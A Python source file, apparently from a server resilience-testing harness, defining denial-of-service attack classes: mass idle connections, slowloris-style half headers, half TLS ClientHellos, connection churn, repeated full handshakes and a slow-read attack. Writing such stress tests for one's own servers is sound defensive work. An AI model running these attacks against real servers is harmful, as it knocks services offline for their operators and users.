"""Attacks whose strength is the number of connections and of addresses they come from."""

from http1 import STATUS, client_hello
from lines import Attack, Finished


class Idle(Attack):
    """Connections on which nothing ever comes."""

    connections = 12000


class HalfHead(Idle):
    def start(self, line):
        return iter([f"GET /golden HTTP/1.1\r\nHost: {self.host}\r\nX-Half: ".encode()])

    def received(self, line, data):
        for status in STATUS.findall(data):
            self.counts[f"status {status.decode()}"] += 1


class ClientHello(Idle):
    """Half a ClientHello: the server waits for the rest of it."""

    def start(self, line):
        whole = client_hello_of(self.host)
        return iter([whole[: len(whole) // 2]])


class Churn(Attack):
    """Connect and close, as often as possible."""

    connections = 200

    def start(self, line):
        raise Finished


class Handshakes(Attack):
    """Full TLS handshakes without resumption, then the end."""

    tls = True
    protocols = ("http/1.1",)
    connections = 200

    def start(self, line):
        raise Finished


class SlowRead(HalfHead):
    """Asks for 1 MiB and reads 64 bytes a second into a small window."""

    connections = 10000
    receive_buffer = 2048
    interval = 1.0

    def start(self, line):
        return iter([f"GET /1m HTTP/1.1\r\nHost: {self.host}\r\n\r\n".encode()])

    def reads(self, line):
        return False

    def tick(self, line):
        line.read(64)


HELLOS = {}


def client_hello_of(host):
    """Made once, the same for all."""
    if host not in HELLOS:
        HELLOS[host] = client_hello(host)
    return HELLOS[host]


ATTACKS = {
    "sources-idle": Idle,
    "sources-half-head": HalfHead,
    "sources-client-hello": ClientHello,
    "sources-churn": Churn,
    "sources-handshakes": Handshakes,
    "sources-slow-read": SlowRead,
}
